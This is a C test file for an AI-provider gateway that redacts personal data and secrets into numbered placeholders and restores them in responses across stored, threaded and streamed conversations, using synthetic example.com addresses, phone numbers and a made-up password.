/* Placeholders over the turns of a conversation, through the gate: the body that the provider
 * is sent, and the values that the caller receives if a response repeats placeholders. Then
 * random conversations, with fixed seeds, over every form in which a provider or a server
 * stores what it was sent: the caller must get back the value that it wrote there, or the
 * placeholder, and never another value. */
#include "answer/guard/guard.h"
#include "scenario/gate_stage.h"

#define KEPT_POLICY                                                                            \
	"providers:\n"                                                                         \
	"  o: {backend: openai, dialect: openai}\n"                                            \
	"  a: {backend: anthropic, dialect: anthropic}\n"                                      \
	"  g: {backend: gemini, dialect: gemini}\n"                                            \
	"  s: {backend: tools, dialect: mcp}\n"                                                \
	"routes:\n"                                                                            \
	"  - {name: t, match: {path: /mcp}, targets: [s], response: restore}\n"                \
	"  - {name: g, match: {path_prefix: /v1beta/}, targets: [g], response: restore}\n"     \
	"  - {name: plain, match: {path: /v1/completions}, targets: [o], response: meter}\n"   \
	"  - {name: m, match: {path_prefix: /v1/messages}, targets: [a], response: restore}\n" \
	"  - {name: o, match: {path_prefix: /v1/}, targets: [o], response: restore}\n"         \
	"rules: [{name: r, redact: {classes: [pii, phi, secret]}}]\n"                          \
	"default: permit\n"

enum { TURNS = 8, TEXT_MAX = 8192 };

/* One request and its response. `sent` is part of the body that the provider must receive,
 * `got` part of the response that the caller must receive. NULL: not compared. */
struct turn_row {
	const char *person, *path, *body;
	const char *sent;
	const char *answer;
	const char *got;
};

/* The bodies of one turn: as sent to the provider, and as received by the caller. */
struct heard {
	char sent[TEXT_MAX], got[TEXT_MAX];
};

/* A request that the provider has received and not answered yet. */
struct flight {
	struct call c;
	struct pass p;
	char *late; /* the bytes that the relay read, if the body is decided late; else NULL */
};

static void
keep_text(char *out, struct span s)
{
	assert_true(s.n < TEXT_MAX);
	snprintf(out, TEXT_MAX, "%.*s", SPAN_ARG(s));
}

/* Sends one request to worker `w`. The provider's body is put into h->sent. */
static void
talk_begin(struct stage *s, unsigned w, const struct turn_row *t, struct flight *f,
	struct heard *h)
{
	struct note n = { .person = t->person ? t->person : "alice",
		.method = t->body ? "POST" : "GET",
		.path = t->path,
		.body = t->body };

	memset(h, 0, sizeof(*h));
	memset(f, 0, sizeof(*f));
	call_send(s, w, &n, &f->c);
	stage_settle(s);
	assert_true(f->c.answered);
	if (strcmp(call_var(&f->c, "via"), "relay"))
		fail_msg("%s %s: %s, no relay", n.method, t->path, call_var(&f->c, "error"));
	pass_send(s, w, &f->p, call_var(&f->c, "ticket"), n.method,
		t->body ? (int64_t)strlen(t->body) : -1);
	stage_turn(s);
	assert_non_null(f->p.x);
	if (gate_plan(f->p.x)->body_mode == BODY_DEFER) {
		f->late = strdup(t->body);
		assert_true(gate_hold(f->p.x, strlen(f->late)));
		gate_body(f->p.x, span_str(f->late), pass_ruled, &f->p);
		stage_settle(s);
		assert_true(f->p.ruled && !f->p.denied);
	}
	const struct exchange_plan *plan = gate_plan(f->p.x);
	keep_text(h->sent,
		plan->body_mode == BODY_SWAP ? plan->body : span_str(t->body ? t->body : ""));
}

/* The provider answers in pieces of 1 to `most` bytes (0: in one piece), drawn with *seed. The
 * caller's response is put into h->got. */
static void
talk_end(struct stage *s, struct flight *f, const char *answer, size_t most, unsigned *seed,
	struct heard *h)
{
	bool streamed = span_starts(span_str(answer), SPAN_LIT("event:")) ||
			span_starts(span_str(answer), SPAN_LIT("data:"));
	struct span rest = span_str(answer);
	struct guard *g;
	struct buf out;

	buf_init(&out, 0);
	assert_int_equal(
		gate_answer(f->p.x,
			&(struct guard_head){ .status = 200,
				.content_type = streamed ? SPAN_LIT("text/event-stream")
							 : SPAN_LIT("application/json") },
			&g),
		0);
	while (rest.n) {
		size_t n = most ? 1 + (size_t)rand_r(seed) % most : rest.n;
		assert_int_equal(guard_feed(g, span_cut(rest, 0, n), &out), GUARD_PASS);
		rest = span_cut(rest, n, rest.n);
		assert_true(gate_keep(f->p.x));
	}
	assert_int_equal(guard_end(g, &out), GUARD_PASS);
	assert_true(gate_keep(f->p.x));
	keep_text(h->got, buf_view(&out));
	buf_free(&out);
	pass_finish(&f->p, END_COMPLETE, 200, 10, 5);
	stage_settle(s);
	free(f->late);
}

static void
turn_do(struct stage *s, unsigned w, const struct turn_row *t, struct heard *h)
{
	static struct flight f;

	talk_begin(s, w, t, &f, h);
	talk_end(s, &f, t->answer, 0, NULL, h);
}

/* ---- conversations ---- */

struct talk {
	const char *name;
	struct turn_row turn[TURNS];
};

/* Returns a field of the last record of this type in the journal, or "" if it has no such
 * field. */
static const char *
last_field(const char *type, const char *field)
{
	for (size_t i = disk_records; i-- > 0;)
		if (!strcmp(stage_field(i, "type"), type))
			return stage_field(i, field);
	return "";
}

static void
run_talk(struct stage *s, const struct talk *t)
{
	static struct heard h;

	for (size_t i = 0; i < TURNS && t->turn[i].path; i++) {
		const struct turn_row *row = &t->turn[i];
		turn_do(s, (unsigned)(i % 2), row, &h);
		if (row->sent && !strstr(h.sent, row->sent))
			fail_msg("%s: turn %zu: sent %s", t->name, i + 1, h.sent);
		if (row->got && !strstr(h.got, row->got))
			fail_msg("%s: turn %zu: got %s", t->name, i + 1, h.got);
	}
}

#define CHATS(text) "{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"content\":\"" text "\"}]}"
#define CHATTED(text)                                                                          \
	"{\"id\":\"c\",\"object\":\"chat.completion\",\"choices\":[{\"index\":0,\"message\":"   \
	"{\"role\":\"assistant\",\"content\":\"" text "\"},\"finish_reason\":\"stop\"}]}"

/* ---- spellings ---- */

static void
each_spelling_is_restored_as_written(void **state)
{
	static const struct talk talks[] = {
		{ "with restore, each spelling has its own number",
			{ { NULL, CHAT,
				CHATS("call (415) 426-8562, i.e. 415-426-8562 or (415) "
				      "426-8562"),
				"call <PHONE_NUMBER_1>, i.e. <PHONE_NUMBER_2> or "
				"<PHONE_NUMBER_1>",
				CHATTED("<PHONE_NUMBER_2> <PHONE_NUMBER_1>"),
				"415-426-8562 (415) 426-8562" } } },
		{ "without restore, equal values have equal numbers",
			{ { NULL, "/v1/completions",
				"{\"model\":\"m\",\"prompt\":\"call (415) 426-8562, i.e. "
				"415-426-8562\"}",
				"call <PHONE_NUMBER_1>, i.e. <PHONE_NUMBER_1>", "{}",
				NULL } } },
		{ "numbers stay while turns are appended",
			{ { NULL, CHAT,
				  "{\"model\":\"m\",\"messages\":[{\"role\":\"user\","
				  "\"content\":\"(415) 426-8562\"}]}",
				  "<PHONE_NUMBER_1>", CHATTED("ok"), "ok" },
				{ NULL, CHAT,
					"{\"model\":\"m\",\"messages\":[{\"role\":\"user\","
					"\"content\":\"(415) 426-8562\"},"
					"{\"role\":\"assistant\",\"content\":\"ok\"},"
					"{\"role\":\"user\",\"content\":\"415-426-8562 or "
					"(415) 426-8562\"}]}",
					"<PHONE_NUMBER_2> or <PHONE_NUMBER_1>",
					CHATTED("<PHONE_NUMBER_2>, <PHONE_NUMBER_1>"),
					"415-426-8562, (415) 426-8562" } } },
		{ "an address in other capitals is another spelling",
			{ { NULL, CHAT, CHATS("Jane.Roe@example.com, jane.roe@example.com"),
				"<EMAIL_ADDRESS_1>, <EMAIL_ADDRESS_2>",
				CHATTED("<EMAIL_ADDRESS_2>, <EMAIL_ADDRESS_1>"),
				"jane.roe@example.com, Jane.Roe@example.com" } } },
		{ "a further mention without punctuation is another spelling",
			{ { NULL, CHAT, CHATS("ssn 856-45-6789 then 856456789"),
				"ssn <US_SSN_1> then <US_SSN_2>",
				CHATTED("<US_SSN_1> <US_SSN_2>"), "856-45-6789 856456789" } } },
		{ "a secret in base64 is another spelling",
			{ { NULL, CHAT,
				CHATS("my password is quuxel47-wobble, cXV1eGVsNDctd29iYmxl"),
				"my password is <GENERIC_SECRET_1>, <GENERIC_SECRET_2>",
				CHATTED("<GENERIC_SECRET_1>, <GENERIC_SECRET_2>"),
				"quuxel47-wobble, cXV1eGVsNDctd29iYmxl" } } },
		{ "a value escaped in a URL is another spelling",
			{ { NULL, CHAT, CHATS("my password is quux+el47wo, or q=quux%2Bel47wo"),
				"my password is <GENERIC_SECRET_1>, or q=<GENERIC_SECRET_2>",
				CHATTED("<GENERIC_SECRET_2>; <GENERIC_SECRET_1>"),
				"quux%2Bel47wo; quux+el47wo" } } },
	};
	struct stage s;

	(void)state;
	stage_up(&s, KEPT_POLICY);
	for (size_t i = 0; i < COUNT_OF(talks); i++)
		run_talk(&s, &talks[i]);
	stage_down(&s);
}

/* ---- conversations that the provider stores ---- */

#define R	   "/v1/responses"
#define ASK(text)  "{\"model\":\"m\",\"input\":\"" text "\"}"
#define ON(id, text)                                                                           \
	"{\"model\":\"m\",\"previous_response_id\":\"" id "\",\"input\":\"" text "\"}"
#define IN(id, text)                                                                           \
	"{\"model\":\"m\",\"conversation\":\"" id "\",\"input\":\"" text "\"}"
#define SAYS(id, text)                                                                         \
	"{\"id\":\"" id "\",\"object\":\"response\",\"output\":[{\"type\":\"message\",\"id\":"    \
	"\"msg_" id "\",\"role\":\"assistant\",\"content\":[{\"type\":\"output_text\",\"text\":"    \
	"\"" text "\"}]}]}"
#define CALLS(id, arguments)                                                                   \
	"{\"id\":\"" id "\",\"object\":\"response\",\"output\":[{\"type\":\"function_call\","     \
	"\"id\":\"fc_1\",\"call_id\":\"call_1\",\"name\":\"send_mail\",\"arguments\":\"" arguments \
	"\"}]}"
#define M	  "/v1/messages"
#define MSG(more) "{\"model\":\"m\",\"max_tokens\":9," more "}"
#define USER(text) "\"messages\":[{\"role\":\"user\",\"content\":\"" text "\"}]"
#define REPLY(id, text)                                                                        \
	"{\"id\":\"" id "\",\"type\":\"message\",\"role\":\"assistant\",\"content\":[{\"type\":"    \
	"\"text\",\"text\":\"" text "\"}]}"

static void
placeholder_means_one_value_in_a_kept_conversation(void **state)
{
	static const struct talk talks[] = {
		{ "turn two continues the numbers of turn one",
			{ { NULL, R, ASK("mail jane@example.com"), "mail <EMAIL_ADDRESS_1>",
				  SAYS("resp_1", "to <EMAIL_ADDRESS_1>"),
				  "to jane@example.com" },
				{ NULL, R, ON("resp_1", "and bob@example.com"),
					"and <EMAIL_ADDRESS_2>",
					SAYS("resp_2", "<EMAIL_ADDRESS_1> <EMAIL_ADDRESS_2>"),
					"jane@example.com bob@example.com" },
				{ NULL, R, ON("resp_2", "go on"), "go on",
					CALLS("resp_3",
						"{\\\"to\\\":\\\"<EMAIL_ADDRESS_1>\\\"}"),
					"{\\\"to\\\":\\\"jane@example.com\\\"}" } } },
		{ "a repeated value keeps its placeholder",
			{ { NULL, R, ASK("jane@example.com"), "<EMAIL_ADDRESS_1>",
				  SAYS("resp_1", "ok"), NULL },
				{ NULL, R,
					ON("resp_1", "bob@example.com then jane@example.com"),
					"<EMAIL_ADDRESS_2> then <EMAIL_ADDRESS_1>",
					SAYS("resp_2", "ok"), NULL } } },
		{ "a first turn without values is known",
			{ { NULL, R, ASK("hello"), "hello", SAYS("resp_1", "hi"), NULL },
				{ NULL, R, ON("resp_1", "jane@example.com"),
					"\"<EMAIL_ADDRESS_1>\"",
					SAYS("resp_2", "<EMAIL_ADDRESS_1>"),
					"jane@example.com" } } },
		{ "two continuations of one response are independent",
			{ { NULL, R, ASK("jane@example.com"), NULL, SAYS("resp_1", "ok"),
				  NULL },
				{ NULL, R, ON("resp_1", "bob@example.com"),
					"\"<EMAIL_ADDRESS_2>\"", SAYS("resp_2", "ok"), NULL },
				{ NULL, R, ON("resp_1", "carl@example.com"),
					"\"<EMAIL_ADDRESS_2>\"", SAYS("resp_3", "ok"), NULL },
				{ NULL, R, ON("resp_2", "go on"), NULL,
					SAYS("resp_4", "<EMAIL_ADDRESS_2>"),
					"bob@example.com" },
				{ NULL, R, ON("resp_3", "go on"), NULL,
					SAYS("resp_5", "<EMAIL_ADDRESS_2>"),
					"carl@example.com" } } },
		{ "a streamed turn is continued",
			{ { NULL, R, ASK("jane@example.com"), NULL,
				  "event: response.created\ndata: "
				  "{\"type\":\"response.created\",\"response\":"
				  "{\"id\":\"resp_1\",\"output\":[]}}\n\n"
				  "event: response.completed\ndata: "
				  "{\"type\":\"response.completed\","
				  "\"response\":{\"id\":\"resp_1\",\"output\":[]}}\n\n",
				  NULL },
				{ NULL, R, ON("resp_1", "bob@example.com"),
					"\"<EMAIL_ADDRESS_2>\"",
					SAYS("resp_2", "<EMAIL_ADDRESS_1>"),
					"jane@example.com" } } },
		{ "a response that is fetched later has its values",
			{ { NULL, R,
				  "{\"model\":\"m\",\"background\":true,\"input\":\"jane@"
				  "example.com\"}",
				  "<EMAIL_ADDRESS_1>",
				  "{\"id\":\"resp_1\",\"object\":\"response\",\"status\":"
				  "\"queued\",\"output\":[]}",
				  NULL },
				{ NULL, R "/resp_1", NULL, NULL,
					SAYS("resp_1", "<EMAIL_ADDRESS_1>"),
					"jane@example.com" } } },
		{ "a number of an earlier turn keeps its type, until it occurs in quotes",
			{ { NULL, R, ASK("{\\\"phone\\\": 4154268562}"), "<PHONE_NUMBER_1>",
				  SAYS("resp_1", "ok"), NULL },
				{ NULL, R, ON("resp_1", "repeat it"), NULL,
					SAYS("resp_2", "{\\\"phone\\\": \\\"<PHONE_NUMBER_1>\\\"}"),
					"{\\\"phone\\\": 4154268562}" },
				{ NULL, R, ON("resp_2", "{\\\"phone\\\": \\\"4154268562\\\"}"),
					"\\\"<PHONE_NUMBER_1>\\\"",
					SAYS("resp_3", "{\\\"phone\\\": \\\"<PHONE_NUMBER_1>\\\"}"),
					"{\\\"phone\\\": \\\"4154268562\\\"}" },
				{ NULL, R, ON("resp_3", "again"), NULL,
					SAYS("resp_4", "{\\\"phone\\\": \\\"<PHONE_NUMBER_1>\\\"}"),
					"{\\\"phone\\\": \\\"4154268562\\\"}" } } },
		{ "arguments of a tool that the provider keeps stay strings, those of a known one get a number",
			{ { NULL, R, ASK("{\\\"phone\\\": 4154268562}"), NULL, SAYS("resp_1", "ok"), NULL },
				{ NULL, R, ON("resp_1", "go on"), NULL,
					CALLS("resp_2", "{\\\"to\\\":\\\"<PHONE_NUMBER_1>\\\"}"),
					"{\\\"to\\\":\\\"4154268562\\\"}" },
				{ NULL, R,
					"{\"model\":\"m\",\"previous_response_id\":\"resp_1\",\"input\":\"go on\","
					"\"tools\":[{\"type\":\"function\",\"name\":\"send_mail\",\"parameters\":{"
					"\"type\":\"object\",\"properties\":{\"to\":{\"type\":\"integer\"}}}}]}",
					NULL, CALLS("resp_3", "{\\\"to\\\":\\\"<PHONE_NUMBER_1>\\\"}"),
					"{\\\"to\\\":4154268562}" } } },
		{ "another caller's conversation is unknown",
			{ { NULL, R, ASK("jane@example.com"), NULL, SAYS("resp_1", "ok"),
				  NULL },
				{ "bob", R, ON("resp_1", "hello"), NULL,
					SAYS("resp_2", "<EMAIL_ADDRESS_1>"),
					"\"<EMAIL_ADDRESS_1>\"" } } },
		{ "if the table is lost, a number stays and new ones do not collide",
			{ { NULL, R, ON("resp_lost", "bob@example.com"), "\"<EMAIL_ADDRESS_",
				SAYS("resp_2", "<EMAIL_ADDRESS_1>"),
				"\"<EMAIL_ADDRESS_1>\"" } } },
		{ "a number in the caller's own text is never assigned",
			{ { NULL, R,
				  ASK("<EMAIL_ADDRESS_2> is what I wrote to jane@example.com"),
				  "<EMAIL_ADDRESS_2> is what I wrote to <EMAIL_ADDRESS_1>",
				  SAYS("resp_1", "ok"), NULL },
				{ NULL, R, ON("resp_1", "bob@example.com"),
					"\"<EMAIL_ADDRESS_3>\"",
					SAYS("resp_2", "<EMAIL_ADDRESS_2>"),
					"\"<EMAIL_ADDRESS_2>\"" } } },
		{ "a placeholder in a tool's result keeps its value",
			{ { NULL, R, ASK("jane@example.com"), NULL, SAYS("resp_1", "ok"),
				  NULL },
				{ NULL, R,
					"{\"model\":\"m\",\"previous_response_id\":\"resp_1\","
					"\"input\":[{\"type\":"
					"\"function_call_output\",\"call_id\":\"c\",\"output\":"
					"\"<EMAIL_ADDRESS_1>, bob@example.com\"}]}",
					"<EMAIL_ADDRESS_1>, <EMAIL_ADDRESS_2>",
					SAYS("resp_2", "<EMAIL_ADDRESS_1>"),
					"jane@example.com" } } },
		{ "an unstored response leaves nothing",
			{ { NULL, R,
				  "{\"model\":\"m\",\"store\":false,\"input\":\"jane@example."
				  "com\"}",
				  "<EMAIL_ADDRESS_1>", SAYS("resp_1", "ok"), NULL },
				{ NULL, R, ON("resp_1", "hello"), NULL,
					SAYS("resp_2", "<EMAIL_ADDRESS_1>"),
					"\"<EMAIL_ADDRESS_1>\"" } } },
		{ "items that refer to an earlier response",
			{ { NULL, R, ASK("jane@example.com"), NULL,
				  SAYS("resp_1", "<EMAIL_ADDRESS_1>"), NULL },
				{ NULL, R,
					"{\"model\":\"m\",\"input\":[{\"role\":\"user\","
					"\"content\":\"bob@example.com\"},"
					"{\"type\":\"item_reference\",\"id\":\"msg_resp_1\"}]}",
					"\"<EMAIL_ADDRESS_2>\"",
					SAYS("resp_2", "<EMAIL_ADDRESS_1> <EMAIL_ADDRESS_2>"),
					"jane@example.com bob@example.com" } } },
		{ "a thread of messages",
			{ { NULL, M,
				  MSG("\"thread\":{\"type\":\"create\"}," USER(
					  "jane@example.com")),
				  "\"<EMAIL_ADDRESS_1>\"", REPLY("msg_1", "ok"), NULL },
				{ NULL, M,
					MSG("\"thread\":{\"type\":\"continue\",\"previous_"
					    "message_id\":\"msg_1\"}," USER("bob@example.com")),
					"\"<EMAIL_ADDRESS_2>\"",
					REPLY("msg_2", "<EMAIL_ADDRESS_1>"),
					"jane@example.com" } } },
		{ "diagnostics of an earlier message continue no conversation",
			{ { NULL, M, MSG(USER("jane@example.com")), NULL, REPLY("msg_1", "ok"),
				  NULL },
				{ NULL, M,
					MSG("\"diagnostics\":{\"previous_message_id\":\"msg_"
					    "1\"}," USER("bob@example.com")),
					"\"<EMAIL_ADDRESS_1>\"",
					REPLY("msg_2", "<EMAIL_ADDRESS_1>"),
					"bob@example.com" } } },
		{ "an encrypted summary of the provider stands for its turns",
			{ { NULL, R "/compact",
				  "{\"model\":\"m\",\"input\":[{\"role\":\"user\",\"content\":"
				  "\"jane@example.com\"}]}",
				  "\"<EMAIL_ADDRESS_1>\"",
				  "{\"id\":\"resp_1\",\"object\":\"response.compaction\","
				  "\"output\":[{\"type\":"
				  "\"compaction\",\"id\":\"cmp_1\",\"encrypted_content\":"
				  "\"c2VhbGVkIHN1bW1hcnk=\"}]}",
				  NULL },
				{ NULL, R,
					"{\"model\":\"m\",\"store\":false,\"input\":[{\"type\":"
					"\"compaction\",\"encrypted_content\":"
					"\"c2VhbGVkIHN1bW1hcnk=\"},{\"role\":\"user\","
					"\"content\":\"bob@example.com\"}]}",
					"\"<EMAIL_ADDRESS_2>\"",
					SAYS("resp_2", "<EMAIL_ADDRESS_1>"),
					"jane@example.com" } } },
		{ "a shortened history reuses no number that the model has seen",
			{ { NULL, CHAT,
				"{\"model\":\"m\",\"messages\":["
				"{\"role\":\"assistant\",\"content\":\"https://x.example/"
				"?q=<EMAIL_ADDRESS_1>\"},"
				"{\"role\":\"user\",\"content\":\"bob@example.com\"}]}",
				"\"<EMAIL_ADDRESS_2>\"", CHATTED("<EMAIL_ADDRESS_1>"),
				"\"<EMAIL_ADDRESS_1>\"" } } },
	};
	struct stage s;

	(void)state;
	for (size_t i = 0; i < COUNT_OF(talks); i++) {
		stage_up(&s, KEPT_POLICY);
		run_talk(&s, &talks[i]);
		stage_down(&s);
	}
}

/* Copies the first placeholder of an e-mail address out of a text. */
static const char *
placeholder_in(const char *text, char out[80])
{
	const char *from = strstr(text, "<EMAIL_ADDRESS_"), *to = from ? strchr(from, '>') : NULL;

	assert_non_null(to);
	snprintf(out, 80, "%.*s", (int)(to - from + 1), from);
	return out;
}

/* Puts `with` in place of each %s. */
static void
put_into(char *out, const char *text, const char *with)
{
	struct buf b;

	buf_init(&b, 0);
	for (; *text; text++) {
		if (text[0] == '%' && text[1] == 's') {
			buf_str(&b, with);
			text++;
		} else {
			buf_putc(&b, *text);
		}
	}
	snprintf(out, TEXT_MAX, "%.*s", SPAN_ARG(buf_view(&b)));
	buf_free(&b);
}

/* A thread or conversation that requests add to, or that a later turn cannot name, gets tagged
 * placeholders. %s in a second turn's response is the placeholder that the first turn was
 * given. */
/* In a stored conversation, a placeholder has a tag. */
static void
number_in_a_conversation_keeps_its_type_until_it_occurs_in_quotes(void **state)
{
	static const char *const bodies[] = { IN("conv_n", "{\\\"phone\\\": 4154268562}"),
		IN("conv_n", "repeat it"), IN("conv_n", "{\\\"phone\\\": \\\"4154268562\\\"}"),
		IN("conv_n", "again") };
	static struct heard h;
	char answer[512] = SAYS("resp_n1", "ok"), given[64] = "";
	struct stage s;

	(void)state;
	stage_up(&s, KEPT_POLICY);
	for (size_t i = 0; i < COUNT_OF(bodies); i++) {
		turn_do(&s, (unsigned)(i % 2), &(struct turn_row){ NULL, R, bodies[i], NULL, answer, NULL }, &h);
		const char *at = strstr(h.sent, "<PHONE_NUMBER_");
		if (i == 0 && !at)
			fail_msg("sent %s", h.sent);
		if (i == 0)
			snprintf(given, sizeof(given), "%.*s", (int)strcspn(at, "\\\""), at);
		else if (!strstr(h.got, i == 1 ? "\\\"phone\\\": 4154268562"
					       : "\\\"phone\\\": \\\"4154268562\\\""))
			fail_msg("turn %zu: got %s", i + 1, h.got);
		snprintf(answer, sizeof(answer), SAYS("resp_n%zu", "{\\\"phone\\\": \\\"%s\\\"}"), i + 2, i + 2, given);
	}
	stage_down(&s);
}

static void
shared_conversation_has_placeholders_without_collisions(void **state)
{
	static const struct {
		const char *name;
		struct turn_row first, second;
		bool known; /* the second turn's response has Jane restored */
	} rows[] = {
		{ "a conversation",
			{ NULL, R, IN("conv_1", "jane@example.com"), NULL, SAYS("resp_1", "%s"),
				NULL },
			{ NULL, R, IN("conv_1", "bob@example.com"), NULL, SAYS("resp_2", "%s"),
				NULL },
			true },
		{ "a conversation that is created with items",
			{ NULL, "/v1/conversations",
				"{\"items\":[{\"type\":\"message\",\"role\":\"user\","
				"\"content\":\"jane@example.com\"}]}",
				NULL, "{\"id\":\"conv_9\",\"object\":\"conversation\"}", NULL },
			{ NULL, R, IN("conv_9", "bob@example.com"), NULL, SAYS("resp_2", "%s"),
				NULL },
			true },
		{ "an assistant's thread",
			{ NULL, "/v1/threads/thread_1/messages",
				"{\"role\":\"user\",\"content\":\"jane@example.com\"}", NULL,
				"{\"id\":\"msg_9\",\"thread_id\":\"thread_1\"}", NULL },
			{ NULL, "/v1/threads/thread_1/messages",
				"{\"role\":\"user\",\"content\":\"bob@example.com\"}", NULL,
				"{\"id\":\"msg_8\",\"content\":[{\"type\":\"text\",\"text\":{"
				"\"value\":\"%s\"}}]}",
				NULL },
			true },
		{ "a cache that a later request names",
			{ NULL, "/v1beta/cachedContents",
				"{\"model\":\"models/"
				"g\",\"contents\":[{\"role\":\"user\",\"parts\":[{\"text\":"
				"\"jane@example.com\"}]}]}",
				NULL, "{\"name\":\"cachedContents/c1\",\"model\":\"models/g\"}",
				NULL },
			{ NULL, "/v1beta/models/g:generateContent",
				"{\"cachedContent\":\"cachedContents/"
				"c1\",\"contents\":[{\"role\":\"user\",\"parts\":[{\"text\":"
				"\"bob@example.com\"}]}]}",
				NULL,
				"{\"candidates\":[{\"content\":{\"role\":\"model\",\"parts\":[{"
				"\"text\":\"%s\"}]}}]}",
				NULL },
			true },
		{ "a tool's server that asks in the middle of a call: the call knows its own "
		  "values",
			{ NULL, "/mcp",
				"{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/"
				"call\",\"params\":{\"name\":\"t\",\"arguments\":{\"to\":"
				"\"jane@example.com\"}}}",
				NULL,
				"event: message\ndata: "
				"{\"jsonrpc\":\"2.0\",\"id\":9,\"method\":\"elicitation/"
				"create\",\"params\":{\"message\":\"who "
				"else?\",\"requestedSchema\":{}}}\n\n",
				NULL },
			{ NULL, "/mcp",
				"{\"jsonrpc\":\"2.0\",\"id\":9,\"result\":{\"action\":"
				"\"accept\",\"content\":{\"also\":\"bob@example.com\"}}}",
				NULL,
				"event: message\ndata: "
				"{\"jsonrpc\":\"2.0\",\"id\":1,\"result\":{\"content\":[{"
				"\"type\":\"text\",\"text\":\"%s\"}]}}\n\n",
				NULL },
			true },
		{ "a file that a later request contains",
			{ NULL, "/v1/files",
				"{\"purpose\":\"user_data\",\"text\":\"jane@example.com\"}",
				NULL, "{\"id\":\"file-1\",\"object\":\"file\"}", NULL },
			{ NULL, R,
				"{\"model\":\"m\",\"input\":[{\"role\":\"user\",\"content\":[{"
				"\"type\":\"input_file\","
				"\"file_id\":\"file-1\"},{\"type\":\"input_text\",\"text\":"
				"\"bob@example.com\"}]}]}",
				NULL, SAYS("resp_1", "%s"), NULL },
			true },
	};
	static struct heard h;
	static char answer[TEXT_MAX];
	char jane[80], bob[80];

	(void)state;
	for (size_t i = 0; i < COUNT_OF(rows); i++) {
		struct stage s;
		struct turn_row t = rows[i].first;
		stage_up(&s, KEPT_POLICY);
		turn_do(&s, 0, &t, &h);
		placeholder_in(h.sent, jane);
		t = rows[i].second;
		put_into(answer, t.answer, jane);
		t.answer = answer;
		turn_do(&s, 1, &t, &h);
		placeholder_in(h.sent, bob);
		if (!strcmp(jane, bob))
			fail_msg("%s: %s is two persons", rows[i].name, jane);
		if (strstr(h.got, "bob@"))
			fail_msg("%s: got %s", rows[i].name, h.got);
		if ((strstr(h.got, "jane@example.com") != NULL) != rows[i].known)
			fail_msg("%s: got %s", rows[i].name, h.got);
		stage_down(&s);
	}
}

static void
unknown_placeholder_is_counted_and_recorded(void **state)
{
	static const struct {
		const char *name;
		struct turn_row turn[3];
		const char *placeholders, *unresolved;
	} rows[] = {
		{ "a first turn",
			{ { NULL, R, ASK("jane@example.com"), NULL,
				SAYS("r1", "<EMAIL_ADDRESS_1>"), NULL } },
			"", "" },
		{ "the next turn",
			{ { NULL, R, ASK("jane@example.com"), NULL, SAYS("r1", "ok"), NULL },
				{ NULL, R, ON("r1", "hi"), NULL,
					SAYS("r2", "<EMAIL_ADDRESS_1>"), NULL } },
			"continued", "" },
		{ "a number that was never assigned",
			{ { NULL, R, ASK("jane@example.com"), NULL, SAYS("r1", "ok"), NULL },
				{ NULL, R, ON("r1", "hi"), NULL,
					SAYS("r2", "<EMAIL_ADDRESS_7> <P_1> <b> "
						   "<EMAIL_ADDRESS_1>"),
					NULL } },
			"continued", "1" },
		{ "a lost table",
			{ { NULL, R, ON("r0", "hi"), NULL,
				SAYS("r2", "<EMAIL_ADDRESS_1> <PERSON_ABCDEFGH_1>"), NULL } },
			"lost", "2" },
		{ "a conversation",
			{ { NULL, R, IN("c", "hi"), NULL, SAYS("r2", "ok"), NULL } }, "tagged",
			"" },
	};
	static struct heard h;

	(void)state;
	for (size_t i = 0; i < COUNT_OF(rows); i++) {
		struct stage s;
		stage_up(&s, KEPT_POLICY);
		for (size_t k = 0; k < 3 && rows[i].turn[k].path; k++)
			turn_do(&s, 0, &rows[i].turn[k], &h);
		if (strcmp(last_field("decision", "placeholders"), rows[i].placeholders))
			fail_msg(
				"%s: %s", rows[i].name, last_field("decision", "placeholders"));
		if (strcmp(last_field("completion", "answer.unresolved"), rows[i].unresolved))
			fail_msg("%s: %s", rows[i].name,
				last_field("completion", "answer.unresolved"));
		assert_int_equal(stage_count(&s, M_ANSWERS_UNRESOLVED),
			rows[i].unresolved[0] ? (uint64_t)atoi(rows[i].unresolved) : 0);
		stage_down(&s);
	}
}

/* ---- placeholders that stay in calls ---- */

#define LEFT_TOOLS                                                                             \
	"tools:\n"                                                                             \
	"  - {names: [Write], arguments: stay}\n"                                              \
	"  - {names: [Bash], arguments: command}\n"                                            \
	"  - {names: [WebFetch], arguments: leave}\n"
#define LEFT_POLICY                                                                            \
	"providers:\n"                                                                         \
	"  o: {backend: openai, dialect: openai}\n"                                            \
	"  a: {backend: anthropic, dialect: anthropic}\n"                                      \
	"routes:\n"                                                                            \
	"  - {name: m, match: {path_prefix: /v1/messages}, targets: [a], response: restore}\n" \
	"  - {name: o, match: {path_prefix: /v1/}, targets: [o], response: restore}\n"         \
	LEFT_TOOLS
#define LEFT_REDACTS "  - {name: r, redact: {classes: [pii, phi, secret]}}\n"
#define CHAT_CALLS(name, arguments)                                                            \
	"{\"id\":\"c\",\"object\":\"chat.completion\",\"choices\":[{\"index\":0,\"message\":"   \
	"{\"role\":\"assistant\",\"content\":null,\"tool_calls\":[{\"id\":\"t\",\"type\":"        \
	"\"function\",\"function\":{\"name\":\"" name "\",\"arguments\":\"" arguments           \
	"\"}}]},\"finish_reason\":\"tool_calls\"}]}"
#define MSG_CALLS(name, input)                                                                 \
	"{\"id\":\"m\",\"type\":\"message\",\"role\":\"assistant\",\"model\":\"m\",\"content\":"    \
	"[{\"type\":\"tool_use\",\"id\":\"t\",\"name\":\"" name "\",\"input\":" input "}],"       \
	"\"stop_reason\":\"tool_use\"}"
#define RESPONSE_CALLS(name, arguments)                                                        \
	"{\"id\":\"r\",\"object\":\"response\",\"store\":false,\"output\":[{\"type\":"           \
	"\"function_call\",\"id\":\"fc\",\"call_id\":\"t\",\"name\":\"" name                    \
	"\",\"arguments\":\"" arguments "\"}]}"
#define CHAT_EVENT(delta)                                                                      \
	"data: {\"id\":\"c\",\"choices\":[{\"index\":0,\"delta\":{\"tool_calls\":[{"             \
	"\"index\":0," delta "}]},\"finish_reason\":null}]}\n\n"
#define CHAT_DONE                                                                              \
	"data: {\"id\":\"c\",\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":"          \
	"\"tool_calls\"}]}\n\ndata: [DONE]\n\n"
#define ONE_MAIL CHATS("jane@example.com")
#define FILLER	 "abcdefghi abcdefghi abcdefghi abcdefghi abcdefghi abcdefghi "
#define FILLED	 FILLER FILLER FILLER FILLER FILLER FILLER FILLER FILLER
